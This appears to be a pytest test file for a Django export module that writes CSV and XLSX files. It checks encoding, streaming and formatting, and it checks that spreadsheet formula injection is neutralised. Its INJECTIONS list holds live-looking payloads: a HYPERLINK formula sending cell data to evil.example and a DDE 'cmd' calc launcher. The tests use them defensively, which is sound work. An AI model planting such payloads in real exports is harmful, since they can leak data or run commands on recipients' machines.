"""Unit tests of apoyo.core.exports: files are read back with csv and python-calamine; no database."""

import codecs
import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from python_calamine import CalamineWorkbook

from apoyo.core.exports import (
    CSV_CONTENT_TYPE,
    XLSX_CONTENT_TYPE,
    csv_response,
    safe_cell,
    write_csv,
    xlsx_bytes,
    xlsx_response,
)

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Clic")',
    "@SUM(A1)",
    "-2+3",
    "+52 662 123 4567",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_xlsx(data):
    """Every sheet of a workbook as {title: rows}."""
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return {name: workbook.get_sheet_by_name(name).to_python() for name in workbook.sheet_names}


def sheet_xml(data, number=1):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(f"xl/worksheets/sheet{number}.xml").decode("utf-8")


def streamed(response):
    return list(response.streaming_content)


def parse_csv(body: bytes):
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


# --- safe_cell ---


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_prefixes_dangerous_text(prefix):
    assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("value", INJECTIONS)
def test_safe_cell_neutralises_known_payloads(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "Juan Pérez",
        "ÑUÑEZ",
        "",
        "1-2",
        "a=b",
        "'=ya protegido",
        0,
        5,
        -5,
        -2.5,
        3.0,
        Decimal("-1.25"),
        True,
        datetime.date(2024, 5, 1),
    ],
)
def test_safe_cell_keeps_safe_values_and_their_type(value):
    result = safe_cell(value)
    assert result == value
    assert type(result) is type(value)


def test_safe_cell_turns_none_into_empty_text():
    assert safe_cell(None) == ""


# --- write_csv ---


def test_write_csv_writes_header_and_neutralised_rows():
    output = io.StringIO(newline="")
    write_csv(output, ["NOMBRE", "TOTAL"], [["=1+1", -3], ["Ñandú, José", None]])
    assert output.getvalue() == 'NOMBRE,TOTAL\n\'=1+1,-3\n"Ñandú, José",\n'


def test_write_csv_neutralises_the_header_too():
    output = io.StringIO(newline="")
    write_csv(output, ["=A1"], [])
    assert output.getvalue() == "'=A1\n"


# --- csv_response ---


def test_csv_response_headers():
    response = csv_response("apoyos válidos.csv", ["A"], [])
    assert response.streaming
    assert response["Content-Type"] == CSV_CONTENT_TYPE
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "apoyos%20v%C3%A1lidos.csv" in disposition


def test_csv_response_starts_with_the_bom():
    chunks = streamed(csv_response("a.csv", ["NOMBRE"], [["MUÑOZ"]]))
    assert chunks[0] == codecs.BOM_UTF8
    assert b"".join(chunks) == codecs.BOM_UTF8 + "NOMBRE\nMUÑOZ\n".encode()


def test_csv_response_neutralises_injection_and_keeps_numbers():
    rows = [[value, -5, 2.5] for value in INJECTIONS]
    body = b"".join(streamed(csv_response("a.csv", ["VALOR", "N", "X"], rows)))
    parsed = parse_csv(body)
    assert parsed[0] == ["VALOR", "N", "X"]
    expected = ["'" + value.replace("\r", "\n") for value in INJECTIONS]
    assert [row[0] for row in parsed[1:]] == expected
    assert all(row[1:] == ["-5", "2.5"] for row in parsed[1:])


def test_csv_response_keeps_a_text_with_line_breaks_in_one_row():
    comment = "línea 1\r\nlínea 2\rlínea 3\nfin"
    body = b"".join(streamed(csv_response("a.csv", ["COMENTARIO", "N"], [[comment, 1]])))
    assert parse_csv(body) == [["COMENTARIO", "N"], ["línea 1\nlínea 2\nlínea 3\nfin", "1"]]


def test_csv_response_consumes_rows_lazily():
    consumed = []

    def rows():
        for number in range(10_000):
            consumed.append(number)
            yield [number, f"fila {number} " + "x" * 40]

    response = csv_response("a.csv", ["N", "TEXTO"], rows())
    assert consumed == []
    chunks = iter(response.streaming_content)
    assert next(chunks) == codecs.BOM_UTF8
    assert consumed == []
    next(chunks)
    assert 0 < len(consumed) < 10_000
    rest = list(chunks)
    assert len(rest) > 1
    assert len(consumed) == 10_000


def test_csv_response_of_no_rows_is_the_header():
    body = b"".join(streamed(csv_response("a.csv", ["A", "B"], iter([]))))
    assert body == codecs.BOM_UTF8 + b"A,B\n"


# --- xlsx_bytes ---


def test_xlsx_writes_dates_numbers_and_text():
    rows = [
        [datetime.date(2024, 3, 15), 42, -2.5, "Ñandú", None, True],
        [datetime.datetime(2024, 3, 15, 10, 30), Decimal("1.5"), 0, "", None, False],
    ]
    data = xlsx_bytes([("Apoyos", ["FECHA", "N", "X", "TEXTO", "VACIO", "OK"], rows)])
    sheet = read_xlsx(data)["Apoyos"]
    assert sheet[0] == ["FECHA", "N", "X", "TEXTO", "VACIO", "OK"]
    assert sheet[1] == [datetime.date(2024, 3, 15), 42.0, -2.5, "Ñandú", "", True]
    assert sheet[2] == [datetime.datetime(2024, 3, 15, 10, 30), 1.5, 0.0, "", "", False]


def test_xlsx_dates_use_day_month_year_format():
    data = xlsx_bytes([("Hoja", ["FECHA"], [[datetime.date(2024, 3, 15)]])])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        styles = archive.read("xl/styles.xml").decode("utf-8")
    assert 'formatCode="dd/mm/yyyy"' in styles


def test_xlsx_writes_aware_datetimes_in_local_time(settings):
    settings.TIME_ZONE = "America/Mexico_City"
    moment = datetime.datetime(2024, 3, 15, 18, 0, tzinfo=ZoneInfo("UTC"))
    data = xlsx_bytes([("Hoja", ["MOMENTO"], [[moment]])])
    assert read_xlsx(data)["Hoja"][1] == [datetime.datetime(2024, 3, 15, 12, 0)]


def test_xlsx_keeps_long_integers_and_non_finite_numbers_as_text():
    data = xlsx_bytes([("Hoja", ["ID", "X"], [[12345678901234567890, float("nan")]])])
    assert read_xlsx(data)["Hoja"][1] == ["12345678901234567890", "nan"]


def test_xlsx_neutralises_injection_and_writes_no_formulas():
    rows = [[value] for value in INJECTIONS]
    data = xlsx_bytes([("Hoja", ["=VALOR"], rows)])
    sheet = read_xlsx(data)["Hoja"]
    assert sheet[0] == ["'=VALOR"]
    assert [row[0] for row in sheet[1:]] == ["'" + value for value in INJECTIONS]
    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)


def test_xlsx_header_is_bold_frozen_and_filtered():
    data = xlsx_bytes([("Hoja", ["A", "B"], [[1, 2], [3, 4]])])
    xml = sheet_xml(data)
    assert 'state="frozen"' in xml and 'ySplit="1"' in xml
    assert '<autoFilter ref="A1:B3"/>' in xml
    assert re.search(r'<col min="1" max="2" width="[0-9.]+"', xml)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<b/>" in archive.read("xl/styles.xml").decode("utf-8")


def test_xlsx_one_sheet_per_entry_in_order():
    data = xlsx_bytes(
        [
            ("Apoyos", ["A"], [[1]]),
            ("Resumen: cargo/1", ["B"], iter([["x"], ["y"]])),
            ("Vacía", ["C"], []),
        ]
    )
    sheets = read_xlsx(data)
    assert list(sheets) == ["Apoyos", "Resumen  cargo 1", "Vacía"]
    assert sheets["Resumen  cargo 1"] == [["B"], ["x"], ["y"]]
    assert sheets["Vacía"] == [["C"]]


def test_xlsx_response_headers_and_body():
    response = xlsx_response("resultados.xlsx", [("Hoja", ["A"], [[1]])])
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="resultados.xlsx"'
    assert read_xlsx(response.content)["Hoja"] == [["A"], [1.0]]
